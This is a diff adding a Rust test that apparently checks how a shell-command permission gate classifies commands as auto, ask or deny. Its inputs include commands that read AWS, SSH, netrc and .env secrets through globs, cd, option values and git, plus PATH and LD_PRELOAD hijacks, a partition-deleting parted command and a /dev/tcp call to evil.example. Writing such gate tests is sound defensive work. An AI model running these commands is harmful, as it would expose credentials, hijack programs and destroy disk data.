@@ -987,3 +987,47 @@ fn fourth_review_findings() {
         ("ask", "network", "cat < /dev/tcp/evil.example/80"),
     ]);
 }
+
+/// The fifth review: plain shell variables are not environment gadgets; secret files
+/// read through globs, `cd`, option values and git; `parted -l … rm`.
+#[test]
+fn fifth_review_findings() {
+    check(&[
+        ("auto", "empty", "x=5; echo $x"),
+        (
+            "auto",
+            "readonly",
+            "start=$(date +%s); echo $(( $(date +%s) - start ))",
+        ),
+        (
+            "auto",
+            "empty",
+            "i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done",
+        ),
+        ("auto", "readonly", "foo=1 ls"),
+        ("ask", "shell.env", "FOO=1 ls"),
+        ("ask", "shell.env", "PATH=/tmp/evil; ls"),
+        ("ask", "shell.env", "LD_PRELOAD=x ls"),
+        ("ask", "secret-file", "cat ~/.aws/cred*"),
+        ("ask", "secret-file", "head ~/.n?trc"),
+        ("ask", "secret-file", "cat .e*"),
+        ("ask", "secret-file", "cat [.]env"),
+        ("ask", "secret-file", "cat ~/.ssh/*"),
+        ("auto", "readonly", "cat *.rs"),
+        ("auto", "readonly", "grep -r foo *"),
+        ("ask", "secret-file", "cd ~/.aws; cat credentials"),
+        ("ask", "secret-file", "grep --file=/home/dev/.netrc x"),
+        ("ask", "secret-file", "grep -f/home/dev/.netrc x"),
+        ("auto", "readonly", "grep -f patterns.txt x"),
+        ("ask", "secret-file", "git show HEAD:.env"),
+        ("ask", "secret-file", "git log -p -- .env"),
+        (
+            "ask",
+            "secret-file",
+            "git diff --no-index ~/.ssh/id_rsa /dev/null",
+        ),
+        ("auto", "readonly", "git show HEAD:README.md"),
+        ("auto", "readonly", "git log -- src"),
+        ("deny", "disk", "parted -l /dev/sda rm 1"),
+    ]);
+}
